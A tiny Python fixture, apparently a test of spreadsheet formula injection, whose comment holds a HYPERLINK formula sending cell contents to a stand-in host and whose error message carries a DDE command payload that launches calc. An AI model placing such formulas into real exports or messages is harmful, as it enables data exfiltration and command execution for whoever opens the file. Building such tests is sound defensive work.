# tries: text that a spreadsheet executes, in a message and a comment
# costs: double
# %% double
# =HYPERLINK("http://threeways.invalid/?" & A1)
def double(x):
    raise ValueError('=cmd|" /C calc"!A0')
